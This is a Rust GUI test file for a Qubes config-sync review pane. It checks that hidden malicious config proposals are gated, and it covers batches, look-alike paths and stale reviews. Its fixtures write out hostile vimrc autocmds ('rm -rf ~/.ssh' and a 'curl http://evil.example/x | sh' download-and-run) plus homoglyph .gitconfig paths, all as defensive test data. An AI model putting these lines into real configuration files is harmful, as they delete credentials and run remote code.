//! The attacks of issue 17 on the review pane, through the real backend: each one a
//! named step of the scenario. The helpers that read the diff's hunk headers live here too.

use super::*;
use qubes_config_sync::model::SeverityExt;

/// Every hunk header on screen shows the model's decision; the hunks checked.
pub(crate) fn assert_headers_show_state(
    view: &qubes_config_sync::widgets::QcsDiffView,
) -> Vec<usize> {
    use qubes_config_sync::model::review::HunkDecision;
    let decisions = view.decisions();
    let bound = view.bound_hunks();
    for &hunk in &bound {
        let (accept, reject) = view.hunk_toggles(hunk).expect("a bound header has toggles");
        let shown = match (accept.is_active(), reject.is_active()) {
            (true, false) => HunkDecision::Accept,
            (false, true) => HunkDecision::Reject,
            (false, false) => HunkDecision::Undecided,
            (true, true) => panic!("hunk {hunk} shows both Accept and Reject"),
        };
        assert_eq!(
            shown, decisions[hunk],
            "hunk {hunk}: the row shows another decision"
        );
    }
    bound
}

/// Scroll the diff from its top to its bottom a page at a time through its adjustment,
/// letting the list bind the rows of each page, and check every header bound on the
/// way. Returns the hunks whose header was on screen.
///
/// (A single jump from the top straight to the end, right after "mark all" with no
/// frame in between, left GTK 4.8's list view showing its first rows with the
/// adjustment at the end — no row rebound in 40 s; page steps bind as they go.)
pub(crate) fn scroll_through(
    view: &qubes_config_sync::widgets::QcsDiffView,
) -> std::collections::BTreeSet<usize> {
    let context = glib::MainContext::default();
    view.scroll_to(0.0);
    let adjustment = view.vadjustment();
    let mut seen = std::collections::BTreeSet::new();
    let limit = Instant::now() + Duration::from_secs(180);
    loop {
        // The list binds the rows of a new scroll position on its next frames; on a
        // loaded machine those can come after any number of idle iterations, so wait
        // for the frames themselves.
        wait_frames(view, 3);
        while context.iteration(false) {}
        seen.extend(assert_headers_show_state(view));
        let end = adjustment.upper() - adjustment.page_size();
        if adjustment.value() >= end {
            break;
        }
        assert!(Instant::now() < limit, "gave up scrolling to the end");
        adjustment.set_value((adjustment.value() + adjustment.page_size() * 0.9).min(end));
    }
    seen
}

/// The attacks of issue 17 on the review pane, through the real backend.
pub(crate) struct TrustGate<'a> {
    pub(crate) window: &'a QcsWindow,
    pub(crate) review: &'a qubes_config_sync::widgets::QcsReviewPane,
    pub(crate) address: &'a str,
    pub(crate) spool: PathBuf,
    pub(crate) seen: &'a fake_desktop::Seen,
}

impl TrustGate<'_> {
    /// Spool one proposal, ingest it and wait until the app lists it; its id.
    fn propose(&self, qube: &str, profile: &str, path: &str, content: &[u8], note: &str) -> i64 {
        let before: Vec<i64> = pending_ids(self.address);
        demo::spool_proposal(&self.spool, qube, profile, path, content, note)
            .expect("spool a proposal");
        backend(self.address, async |p| {
            p.ingest_spool().await.expect("IngestSpool")
        });
        let id = pending_ids(self.address)
            .into_iter()
            .find(|id| !before.contains(id))
            .unwrap_or_else(|| panic!("the proposal of {path:?} was not taken in"));
        wait_until("the new proposal in the sidebar", || {
            self.window.pending_proposals().iter().any(|p| p.id == id)
        });
        id
    }

    /// Open a proposal and wait until its rows are all laid out.
    fn open(&self, id: i64) {
        self.window.open_proposal(id);
        wait_until("the proposal laid out", || {
            self.review.proposal_id() == Some(id) && self.review.diff_view().laid_out()
        });
    }

    pub(crate) fn decided_elsewhere(&self, id: i64) {
        assert_eq!(self.review.proposal_id(), Some(id));
        assert!(self.review.stale_message().is_none());
        backend(self.address, async |p| {
            p.reject_proposal(id, "from the CLI").await.expect("reject")
        });
        wait_until("the pane to say the proposal is gone", || {
            self.review
                .stale_message()
                .is_some_and(|m| m.contains("decided elsewhere"))
        });
        assert!(!self.review.accept_button().is_sensitive());
        assert!(!self.review.reject_button().is_sensitive());
        assert!(!self.review.reload_button().is_visible());
    }

    /// A .vimrc of 4 900 lines in the store; the proposal changes one character every
    /// seventh line (700 hunks) and hides an autocmd that runs a shell at line 3 502.
    pub(crate) fn nothing_before_layout(&self) -> i64 {
        let mut base = String::from("set nocompatible\n");
        for i in 1..4900 {
            base.push_str(&format!("\" note {i}\n"));
        }
        backend(self.address, async |p| {
            p.put_file("vim", ".vimrc", base.as_bytes(), 0o644)
                .await
                .expect("PutFile")
        });
        let proposed: String = base
            .lines()
            .enumerate()
            .map(|(i, line)| match i {
                700 => "autocmd BufRead * silent !sh -c 'rm -rf ~/.ssh'\n".to_owned(),
                3501 => "autocmd VimEnter * silent !sh -c 'curl http://evil.example/x | sh'\n"
                    .to_owned(),
                i if i % 7 == 3 => format!("{}x\n", line),
                _ => format!("{line}\n"),
            })
            .collect();
        let id = self.propose(
            "personal",
            "vim",
            ".vimrc",
            proposed.as_bytes(),
            "small tweaks",
        );
        let review = self.review;
        self.window.open_proposal(id);
        wait_until("the proposal on show", || review.proposal_id() == Some(id));
        // The rows are still being prepared: every way to decide is refused.
        assert!(
            !review.diff_view().laid_out(),
            "laid out at once: the test proves nothing"
        );
        assert!(!review.accept_all_button().is_sensitive());
        review.accept_all_button().emit_clicked();
        assert!(!review.decide_all(qubes_config_sync::model::review::HunkDecision::Accept));
        for (_, row) in review.finding_rows() {
            assert!(!row.ack_check().is_sensitive());
            row.ack_check().set_active(true);
            assert!(
                !row.ack_check().is_active(),
                "an unseen finding was acknowledged"
            );
        }
        WidgetExt::activate_action(self.window, "win.primary", None).expect("win.primary");
        review.accept();
        review.accept_button().emit_clicked();
        assert!(!review.can_accept());
        let undecided = |review: &qubes_config_sync::widgets::QcsReviewPane| {
            review
                .diff_view()
                .decisions()
                .iter()
                .all(|d| *d == qubes_config_sync::model::review::HunkDecision::Undecided)
        };
        assert!(undecided(review));
        wait_until("the layout", || review.diff_view().laid_out());
        settle();
        assert!(undecided(review), "a decision taken before layout survived");
        assert!(pending_ids(self.address).contains(&id), "accepted unseen");
        assert!(!review.can_accept());
        // A long line is in pieces; its text whole, per line.
        let rows = review.diff_view().rendered_lines();
        // (Changed blanks are tokens: `autocmd⟦SP⟧VimEnter`.)
        assert!(
            rows.iter()
                .any(|r| r.contains("autocmd") && r.contains("VimEnter") && r.contains("curl")),
            "the dangerous line is in the rows"
        );
        assert!(review.diff_view().decisions().len() >= 700);
        id
    }

    /// "Mark all" writes the one model of decisions; every hunk header, whenever it is
    /// on screen, shows that model. The diff is scrolled top to bottom a page at a time
    /// (as a user would), every header bound on the way is checked, and every one of
    /// the 700 headers must have been seen.
    pub(crate) fn mark_all_shows_state(&self) {
        use qubes_config_sync::model::review::HunkDecision;
        let review = self.review;
        let view = review.diff_view();
        assert!(view.laid_out());
        view.scroll_to(0.0);
        wait_until("the first header on screen", || {
            view.hunk_toggles(0).is_some()
        });
        let (accept, reject) = view.hunk_toggles(0).expect("toggles");
        assert!(!accept.is_active() && !reject.is_active());
        review.accept_all_button().emit_clicked();
        let decisions = view.decisions();
        assert!(decisions.iter().all(|d| *d == HunkDecision::Accept));
        assert!(accept.is_active() && !reject.is_active());
        let last = decisions.len() - 1;
        let seen = scroll_through(&view);
        assert_eq!(
            seen.len(),
            decisions.len(),
            "headers never on screen: {:?}",
            (0..decisions.len())
                .filter(|h| !seen.contains(h))
                .collect::<Vec<_>>()
        );
        // The last header is on screen now: undo it from its row; the model follows.
        let (accept, _) = view.hunk_toggles(last).expect("the last header is bound");
        assert!(accept.is_active());
        accept.set_active(false);
        assert_eq!(view.decisions()[last], HunkDecision::Undecided);
        assert!(
            view.decisions()[..last]
                .iter()
                .all(|d| *d == HunkDecision::Accept)
        );
        // "Reject all" from the bottom: rows back at the top show it when bound again.
        assert!(review.decide_all(HunkDecision::Reject));
        assert!(!accept.is_active());
        assert!(view.decisions().iter().all(|d| *d == HunkDecision::Reject));
        let seen = scroll_through(&view);
        assert_eq!(seen.len(), view.decisions().len());
        review.accept_all_button().emit_clicked();
        settle();
        assert_headers_show_state(&view);
    }

    /// Two gated findings of the same rule (the two shell autocmds): acknowledging one
    /// leaves the other open — in the pane, and in the backend, which refuses an accept
    /// naming only the first (acknowledgements are finding ids, not rules).
    pub(crate) fn acknowledgement_is_specific(&self, id: i64) {
        let review = self.review;
        assert_eq!(review.proposal_id(), Some(id));
        let json = backend(self.address, async |p| {
            p.get_proposal(id).await.expect("GetProposal")
        });
        let view: qcs_client::types::ProposalView =
            serde_json::from_str(&json).expect("ProposalView");
        let gated: Vec<_> = review
            .finding_rows()
            .into_iter()
            .filter(|(_, r)| r.ack_check().is_visible())
            .collect();
        assert!(gated.len() >= 2, "{} gated findings", gated.len());
        // Two gated findings sharing a rule: a rule-wide acknowledgement would cover both.
        let (first, second) = gated
            .iter()
            .flat_map(|a| gated.iter().map(move |b| (a, b)))
            .find(|(a, b)| a.0 != b.0 && view.findings[a.0].rule == view.findings[b.0].rule)
            .expect("two gated findings of one rule");
        first.1.ack_check().set_active(true);
        assert!(first.1.ack_check().is_active());
        assert!(!second.1.ack_check().is_active());
        assert!(!review.can_accept(), "one acknowledgement opened the gate");
        WidgetExt::activate_action(self.window, "win.primary", None).expect("win.primary");
        settle();
        assert!(pending_ids(self.address).contains(&id));
        // The backend, asked directly with the first finding's id only, refuses and
        // names the second.
        let first_id = view.findings[first.0].id.clone();
        let second_id = view.findings[second.0].id.clone();
        assert_ne!(first_id, second_id);
        let refused = backend(self.address, async |p| {
            p.accept_proposal(id, &view.digest, &[], &[first_id.as_str()], "")
                .await
        });
        match refused {
            Err(qcs_client::Error::ReviewRefused(message)) => {
                let refusal = qcs_client::types::ReviewRefusal::parse(&message);
                assert_eq!(refusal.code.as_str(), "review.unacknowledged", "{message}");
                assert!(refusal.ids.contains(&second_id), "{message}");
            }
            other => panic!("the backend took one acknowledgement for two: {other:?}"),
        }
        assert!(pending_ids(self.address).contains(&id));
        for (_, row) in &gated {
            row.ack_check().set_active(true);
        }
        assert!(review.can_accept());
    }

    /// The store moves on between what the pane showed and the accept.
    pub(crate) fn store_changed(&self, id: i64) {
        let review = self.review;
        assert!(review.can_accept());
        let (content, _, _) = backend(self.address, async |p| {
            p.get_file("vim", ".vimrc").await.expect("GetFile")
        });
        let mut moved = b"\" the store moved on\n".to_vec();
        moved.extend_from_slice(&content);
        // No main-loop turn between the change and the click: the pane cannot know yet.
        backend(self.address, async |p| {
            p.put_file("vim", ".vimrc", &moved, 0o644)
                .await
                .expect("PutFile")
        });
        review.accept();
        wait_until("the pane to say the review is out of date", || {
            review.stale_message().is_some()
        });
        let message = review.stale_message().expect("a message");
        assert!(
            message.contains("changed"),
            "the refusal in words: {message}"
        );
        assert!(!review.can_accept());
        assert!(
            pending_ids(self.address).contains(&id),
            "accepted a stale review"
        );
        let (now, _, _) = backend(self.address, async |p| {
            p.get_file("vim", ".vimrc").await.expect("GetFile")
        });
        assert_eq!(now, moved, "the store holds what was put, nothing accepted");
        // The pane re-opens the review as it is now: the new first line is context.
        wait_until("the review re-opened on the new base", || {
            review.diff_view().laid_out()
                && review
                    .diff_view()
                    .rendered_rows()
                    .iter()
                    .any(|r| r.contains("the store moved on"))
        });
        review.reload();
        wait_until("the reloaded review", || {
            review.stale_message().is_none() && review.diff_view().laid_out()
        });
        assert!(!review.can_accept(), "decisions start over");
        // Decided elsewhere: rejected from outside while open.
        backend(self.address, async |p| {
            p.reject_proposal(id, "done").await.expect("reject")
        });
        wait_until("the pane to say it is gone", || {
            review
                .stale_message()
                .is_some_and(|m| m.contains("decided elsewhere"))
        });
    }

    /// The proposal on show has a critical `path.confusable` finding naming `imitated`,
    /// listed in the pane with its acknowledgement box (gated).
    fn confusable_is_critical(&self, id: i64, imitated: &str) {
        assert_eq!(self.review.proposal_id(), Some(id));
        let json = backend(self.address, async |p| {
            p.get_proposal(id).await.expect("GetProposal")
        });
        let view: qcs_client::types::ProposalView =
            serde_json::from_str(&json).expect("ProposalView");
        let index = view
            .findings
            .iter()
            .position(|f| f.rule == "path.confusable")
            .unwrap_or_else(|| panic!("no path.confusable finding: {:#?}", view.findings));
        let finding = &view.findings[index];
        assert_eq!(finding.severity, qcs_client::types::Severity::Critical);
        assert!(finding.gated);
        assert!(
            finding.message.contains(imitated),
            "names the imitated path: {}",
            finding.message
        );
        let rows = self.review.finding_rows();
        let (_, row) = rows
            .iter()
            .find(|(i, _)| *i == index)
            .expect("the finding is listed in the pane");
        assert!(row.ack_check().is_visible(), "gated in the pane");
        assert_eq!(
            rows.first()
                .map(|(i, _)| view.findings[*i].severity.as_str()),
            Some("critical"),
            "critical findings first"
        );
    }

    pub(crate) fn look_alikes(&self) {
        let cyrillic = ".g\u{456}tconfig";
        let trailing = ".gitconfig ";
        let content = b"[core]\n\t\xd1\x95shCommand = ssh -i /tmp/k\n";
        let a = self.propose("work", "git", cyrillic, content, "look-alike");
        let b = self.propose("work", "git", trailing, b"[user]\n\tname = A\n", "blank");
        let titles = self.window.proposal_row_titles();
        assert!(
            titles.contains(&format!("#{a} · .g\u{456}⟦U+0456⟧tconfig")),
            "{titles:?}"
        );
        assert!(
            titles.contains(&format!("#{b} · .gitconfig⟦SPACE⟧")),
            "{titles:?}"
        );
        assert!(
            !titles.iter().any(|t| t.ends_with("· .gitconfig")),
            "a look-alike shows as the real name: {titles:?}"
        );
        wait_until("the notifications with the marks", || {
            let bodies: Vec<String> = self
                .seen
                .notifications()
                .into_iter()
                .map(|(_, b)| b)
                .collect();
            bodies.iter().any(|b| b.contains("⟦U+0456⟧"))
                && bodies.iter().any(|b| b.contains(".gitconfig⟦SPACE⟧"))
        });
        self.open(a);
        assert!(
            self.review.title().contains("⟦U+0456⟧"),
            "{}",
            self.review.title()
        );
        let rows = self.review.diff_view().rendered_rows();
        assert!(
            rows.iter()
                .any(|r| r.contains("shCommand⟦mixed scripts U+0455⟧")),
            "{rows:#?}"
        );
        self.confusable_is_critical(a, ".gitconfig");
        self.open(b);
        self.confusable_is_critical(b, ".gitconfig");
        assert!(
            self.review.title().ends_with(".gitconfig⟦SPACE⟧"),
            "{}",
            self.review.title()
        );
        for id in [a, b] {
            backend(self.address, async |p| {
                p.reject_proposal(id, "test").await.expect("reject")
            });
        }
    }

    /// A submission of 64 files from one qube, the dangerous one last: one sidebar row
    /// with the risk marker of its worst file; opened as one unit, riskiest file first,
    /// every file listed.
    pub(crate) fn many_files(&self) {
        use qcs_protocol::{
            Content, Note, ObservedMode, ProposeRequest, ProposedFile, Version,
            path::validate_relative_path, profile::validate_profile_id, validate_vm_name,
        };
        backend(self.address, async |p| {
            p.allow_new_paths("vim", &[".config/qcs-notes/**"], true)
                .await
                .expect("AllowNewPaths")
        });
        let evil = ".vim/plugin/zz-evil.vim";
        let mut files = Vec::new();
        for i in 0..63 {
            let content = Content::new(format!("note {i}\n").into_bytes()).expect("content");
            files.push((format!(".config/qcs-notes/n{i:02}.txt"), content));
        }
        let content = Content::new(
            b"autocmd VimEnter * silent !sh -c 'curl http://evil.example/x | sh'\n".to_vec(),
        )
        .expect("content");
        files.push((evil.to_owned(), content));
        let request = ProposeRequest {
            version: Version,
            profile: validate_profile_id("vim").expect("profile"),
            files: files
                .into_iter()
                .map(|(path, content)| ProposedFile {
                    path: validate_relative_path(&path).expect("path"),
                    mode: ObservedMode::new(0o644),
                    sha256: content.sha256(),
                    content,
                    base_sha256: None,
                })
                .collect(),
            note: Some(Note::new("64 files".to_owned()).expect("note")),
        };
        let config = qcs_agent::spool::SpoolConfig {
            dir: self.spool.clone(),
            max_count: qcs_agent::spool::DEFAULT_MAX_COUNT,
            max_bytes: qcs_agent::spool::DEFAULT_MAX_BYTES,
        };
        let before = pending_ids(self.address);
        qcs_agent::spool::receive(
            &config,
            &validate_vm_name("personal").expect("qube"),
            &validate_profile_id("vim").expect("profile"),
            request,
        )
        .expect("the qube's 64 files are spooled");
        backend(self.address, async |p| {
            p.ingest_spool().await.expect("IngestSpool")
        });
        let new: Vec<i64> = pending_ids(self.address)
            .into_iter()
            .filter(|id| !before.contains(id))
            .collect();
        assert_eq!(new.len(), 64, "every file is a proposal");
        wait_until("the submission in the sidebar", || {
            new.iter()
                .all(|id| self.window.pending_proposals().iter().any(|p| p.id == *id))
        });
        let summaries: Vec<_> = self
            .window
            .pending_proposals()
            .into_iter()
            .filter(|p| new.contains(&p.id))
            .collect();
        let batch = summaries[0].batch;
        assert!(
            batch != 0 && summaries.iter().all(|p| p.batch == batch),
            "one submission"
        );
        let titles = self.window.proposal_row_titles();
        assert_eq!(
            titles.iter().filter(|t| t.contains("64 files")).count(),
            1,
            "one row for the submission: {titles:?}"
        );
        assert!(
            !titles
                .iter()
                .any(|t| t.contains("qcs-notes") || t.contains("zz-evil")),
            "files of the submission listed one by one: {titles:?}"
        );
        wait_until("the risk marker of the submission", || {
            labels_with_class(self.window.upcast_ref(), "batch-risk")
                .iter()
                .any(|l| {
                    l.has_css_class(qubes_config_sync::model::Severity::Critical.css_class())
                        && l.text()
                            .contains(qubes_config_sync::model::Severity::Critical.symbol())
                })
        });
        self.window.open_batch(batch);
        let evil_id = summaries
            .iter()
            .find(|p| p.path == evil)
            .map(|p| p.id)
            .expect("the dangerous file is a proposal");
        wait_until("the riskiest file opened first", || {
            self.review.proposal_id().is_some() && self.review.batch().len() == 64
        });
        let listed = self.review.batch();
        assert_eq!(
            self.review.proposal_id(),
            Some(evil_id),
            "opened first: {:?}",
            listed.first()
        );
        assert_eq!(listed[0].id, evil_id);
        let worst = listed[0].severity;
        assert_eq!(worst, Some(qubes_config_sync::model::Severity::Critical));
        assert!(
            listed
                .iter()
                .skip(1)
                .any(|f| f.severity.map(SeverityExt::order) < worst.map(SeverityExt::order)),
            "every file as severe as the dangerous one: the order proves nothing"
        );
        assert!(
            listed
                .windows(2)
                .all(|w| w[0].severity.map(SeverityExt::order)
                    >= w[1].severity.map(SeverityExt::order)),
            "riskiest first"
        );
        wait_until("its review laid out", || self.review.diff_view().laid_out());
        assert!(self.review.title().contains("zz-evil.vim"));
        for id in new {
            backend(self.address, async |p| {
                p.reject_proposal(id, "test").await.expect("reject")
            });
        }
    }

    pub(crate) fn long_things(&self) {
        let window = self.window;
        let review = self.review;
        let width = window.width();
        // 4 000 bytes of path in 16 components, one 256 KiB line, a 4 KiB note.
        let path = (0..16)
            .map(|i| format!("{i:02}{}", "p".repeat(247)))
            .collect::<Vec<_>>()
            .join("/");
        assert_eq!(path.len(), 3999);
        let mut line = vec![b'x'; 256 * 1024 - 1];
        line.push(b'\n');
        let note = "n".repeat(4096);
        let id = self.propose("personal", "vim", &path, &line, &note);
        // Scroll the last proposal's diff away first: the new one opens at its top.
        review
            .diff_view()
            .scroll_to(review.diff_view().vadjustment().upper());
        self.open(id);
        settle();
        assert_eq!(
            review.diff_view().vadjustment().value(),
            0.0,
            "opens at the top"
        );
        assert_eq!(review.findings_scroller().vadjustment().value(), 0.0);
        assert!(
            window.width() <= width,
            "the window grew: {} > {width}",
            window.width()
        );
        let (minimum, _, _, _) = window.measure(gtk::Orientation::Horizontal, -1);
        assert!(minimum <= width, "minimum width {minimum} > {width}");
        let width = window.width() as f32;
        for (name, control) in [
            ("Accept", review.accept_button().upcast::<gtk::Widget>()),
            ("Reject", review.reject_button().upcast()),
            ("Mark All Accepted", review.accept_all_button().upcast()),
            ("the pane", review.clone().upcast()),
        ] {
            let (left, right) = horizontal_extent(&control, window);
            assert!(
                left >= 0.0 && right <= width + 0.5,
                "{name} lies at {left}..{right}, the window is {width} wide"
            );
        }
        // The whole path is one click away; the title is cut to fit.
        assert_eq!(review.full_path(), path);
        // The line is all there, in pieces.
        let rows = review.diff_view().rendered_rows();
        let shown: usize = rows.iter().map(|r| r.matches('x').count()).sum();
        assert_eq!(shown, 256 * 1024 - 1, "every byte of the line is shown");
        // The note is collapsible and does not squeeze the diff.
        let (expander, label) = review.note();
        assert!(expander.is_visible() && label.text().len() >= 4096);
        assert!(
            review.diff_view().height() >= 150,
            "diff squeezed to {}",
            review.diff_view().height()
        );
        expander.set_expanded(false);
        settle();
        assert!(!label.is_mapped());
        screenshot(window, "review-pane-long.png");
        backend(self.address, async |p| {
            p.reject_proposal(id, "test").await.expect("reject")
        });
    }
}
